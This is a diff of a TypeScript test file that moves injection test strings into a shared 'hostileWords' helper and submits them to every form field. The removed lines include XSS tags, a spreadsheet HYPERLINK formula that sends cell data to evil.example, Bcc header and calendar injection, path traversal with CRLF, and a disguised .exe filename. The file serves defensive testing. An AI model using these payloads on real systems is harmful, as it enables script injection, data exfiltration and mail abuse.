@@ -8,6 +8,7 @@ import { routes } from '../../shared/contract/routes.ts';
 import type { Run } from '../../shared/domain/run.ts';
 import { apply, outcome, type Sent, TXT, uploadTo } from '../support/applying.ts';
 import { contactForm, employerForm, post } from '../support/form-filling.ts';
+import { hostileWords } from '../support/hostile-words.ts';
 import { eventually, type TestStack } from '../support/local-stack.ts';
 import { markedForms } from '../support/marked-forms.ts';
 import { resumeTxt } from '../support/resume-files.ts';
@@ -20,13 +21,7 @@ let sent: Sent;
 let talentId: string;
 
 const MARK = `Z${randomUUID().slice(0, 8)}`;
-const SCRIPT = `"><img src=x onerror=alert(1)></script><script>alert('${MARK}')</script>`;
-const FORMULA = `=HYPERLINK("http://evil.example/?q="&A1,"${MARK}")`;
-const HEADER = `${MARK}\r\nBcc: eve@evil.example\r\n\r\n<b>x</b>`;
-const CALENDAR = `${MARK}\r\nATTENDEE:mailto:eve@evil.example;X=1\\n,"`;
-const DIRECTION = `\u202egnp.${MARK}\u2066.exe`;
-const PATH = `../../${MARK}";x="/..\\evil\r\nSet-Cookie: a=b.txt`;
-const TEMPLATE = `{{firstName}} \${7*7} {{{html}}} ${MARK} %0d%0aBcc:eve@evil.example`;
+const { SCRIPT, FORMULA, HEADER, CALENDAR, DIRECTION, PATH, TEMPLATE, WORDS } = hostileWords(MARK);
 
 const call = (method: string, path: string, body?: unknown) =>
   stack.api(`/api/admin/${path}`, { method, body, token: admin });
@@ -68,7 +63,7 @@ const made: { path: string; word: string; body: Record<string, unknown> }[] = []
 async function fillEveryField(): Promise<void> {
   const forms: Route[] = [routes.submitProfile, routes.sendContactMessage, routes.requestTalent];
   const kept: Route[] = [routes.createJob, routes.createEmployer];
-  for (const word of [FORMULA, `${MARK} ${SCRIPT}`, HEADER, DIRECTION, `@SUM(${MARK})`, `+${MARK}`]) {
+  for (const word of WORDS) {
     const mark = { word, email: `every.${randomUUID()}@people.example`, phone: '+34 600 123 456' };
     for (const { path, body: schema, access } of [...forms, ...kept]) {
       if (!schema) throw new Error(`${path} has no form`);
